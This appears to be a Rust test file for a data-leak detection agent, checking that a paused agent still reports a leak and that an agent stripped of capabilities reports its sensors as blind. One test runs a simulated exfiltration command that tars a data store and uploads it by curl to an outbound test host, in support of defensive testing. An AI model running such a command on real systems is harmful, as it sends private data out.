//! An agent that is held up or lacks a right: nobody on the host is slowed, and the blindness is told.

use jaga_tests::agent::SENSORS;
use jaga_tests::leak::Leak;
use jaga_tests::net::OUT;
use jaga_tests::process::Unit;
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};
use nix::sys::signal::Signal;

#[test]
fn a_stopped_agent_slows_nobody_and_loses_nothing() {
    let Some(world) = World::new("a_stopped_agent_slows_nobody_and_loses_nothing") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-stopped.service");
    agent.signal(Signal::SIGSTOP);
    // If a reader or a sender waited for the agent, this would never end.
    unit.run(
        &format!(
            "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
            store.display()
        ),
        60,
    );
    agent.signal(Signal::SIGCONT);
    let session = unit.session();
    let leak = Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session: &session,
        destination: OUT,
        scopes: &["external"],
    };
    leak.told(&mut agent, world.net.out.received() - before);
}

#[test]
fn an_agent_without_rights_says_that_it_is_blind() {
    let Some(world) = World::new("an_agent_without_rights_says_that_it_is_blind") else {
        return;
    };
    let store = world.store("ekg", 1, MB);
    let rights = [
        "setpriv",
        "--bounding-set=-bpf,-perfmon,-sys_admin,-net_raw,-net_admin",
        "--inh-caps=-all",
    ];
    let mut agent = world.agent_under(&rights, &[("ekg", &store)]);
    for sensor in SENSORS {
        until(&format!("{sensor} to be shown as down"), 30, || {
            (agent.metric("jaga_sensor_up", &[("sensor", sensor)])? == 0.0).then_some(())
        });
    }
    for sensor in SENSORS {
        agent.alert("sensor-blind", "firing", &[("sensor", sensor)]);
    }
    agent.replay_equals_live();
}
